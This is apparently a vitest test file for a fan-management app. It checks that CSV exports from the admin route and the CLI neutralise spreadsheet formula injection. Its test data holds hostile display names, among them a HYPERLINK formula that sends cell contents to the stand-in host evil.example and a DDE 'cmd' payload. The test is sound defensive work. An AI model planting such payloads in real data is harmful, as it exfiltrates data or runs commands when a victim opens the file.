import { spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseCell } from '../src/core/csv.ts';
import { useTestApp } from './app.ts';
import { openTestDatabase, type TestDatabase } from './engine.ts';
import { createOwner, signupFan } from './factories.ts';

const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")';
/** Names a fan can really have (leading whitespace such as a tab is trimmed on the way in). */
const HOSTILE_NAMES = [EVIL, "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', 'Semi;=1+1'];
const NEUTRALISED = [`'${EVIL}`, "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)", "Semi;'=1+1"];

const rowsOf = (csv: string) => parse(csv.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];

describe('CSV exports: no cell starts a spreadsheet formula', () => {
  it('prefixes formula-looking cells with a quote and leaves others alone', () => {
    expect(HOSTILE_NAMES.map(neutraliseCell)).toEqual(NEUTRALISED);
    expect(neutraliseCell('\tTabbed')).toBe("'\tTabbed");
    expect(neutraliseCell('\r=1')).toBe("'\r=1");
    expect(neutraliseCell('line\n=1')).toBe("line\n'=1");
    for (const plain of ['Mi Fan', 'a-b', 'x=1', 'fan@example.com', '粉丝', '']) expect(neutraliseCell(plain)).toBe(plain);
  });

  describe('console export route', () => {
    const t = useTestApp();

    it('neutralises hostile display names in GET /api/admin/fans/export.csv', async () => {
      const owner = await createOwner(t.app);
      for (const displayName of HOSTILE_NAMES) await signupFan(t.app, { displayName });
      const res = await t.app.inject({ method: 'GET', url: '/api/admin/fans/export.csv', headers: { cookie: owner.cookie } });
      expect(res.statusCode).toBe(200);
      expect(res.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
      const names = rowsOf(res.body).map((r) => r.display_name);
      expect(names.sort()).toEqual([...NEUTRALISED].sort());
    });
  });

  describe('fanbase fans export', () => {
    let dir: string;
    let database: TestDatabase | undefined;
    let env: Record<string, string>;
    const BIN = path.resolve(import.meta.dirname, '../bin/fanbase.js');
    const run = (args: string[]) =>
      new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => {
        const child = spawn(process.execPath, [BIN, ...args], { env: { PATH: process.env.PATH ?? '', HOME: process.env.HOME ?? '/tmp', ...env } });
        let stdout = '';
        let stderr = '';
        child.stdout.on('data', (d) => (stdout += d));
        child.stderr.on('data', (d) => (stderr += d));
        child.on('close', (code) => resolve({ code, stdout, stderr }));
      });

    beforeAll(async () => {
      dir = mkdtempSync(path.join(tmpdir(), 'fanbase-csv-'));
      env = { FANBASE_DATA_DIR: dir, LOG_LEVEL: 'warn' };
      if (process.env.TEST_DATABASE_URL) {
        database = await openTestDatabase();
        env.DATABASE_URL = database.url!;
      }
    });
    afterAll(async () => {
      await database?.close();
      rmSync(dir, { recursive: true, force: true });
    });

    it('neutralises them on stdout and in a file', async () => {
      const quote = (s: string) => `"${s.replaceAll('"', '""')}"`;
      const input = path.join(dir, 'hostile.csv');
      writeFileSync(input, `email,display_name\n${HOSTILE_NAMES.map((n, i) => `hostile-${i}@example.com,${quote(n)}`).join('\n')}\n`);
      const imported = await run(['fans', 'import', input]);
      expect(imported.stdout, imported.stderr).toMatch(/5 fans created/);

      const out = await run(['fans', 'export']);
      expect(out.code, out.stderr).toBe(0);
      expect(
        rowsOf(out.stdout)
          .map((r) => r.display_name)
          .sort(),
      ).toEqual([...NEUTRALISED].sort());

      const file = path.join(dir, 'out.csv');
      expect((await run(['fans', 'export', '--out', file])).code).toBe(0);
      expect(
        rowsOf(readFileSync(file, 'utf8'))
          .map((r) => r.display_name)
          .sort(),
      ).toEqual([...NEUTRALISED].sort());
    }, 120_000);
  });
});
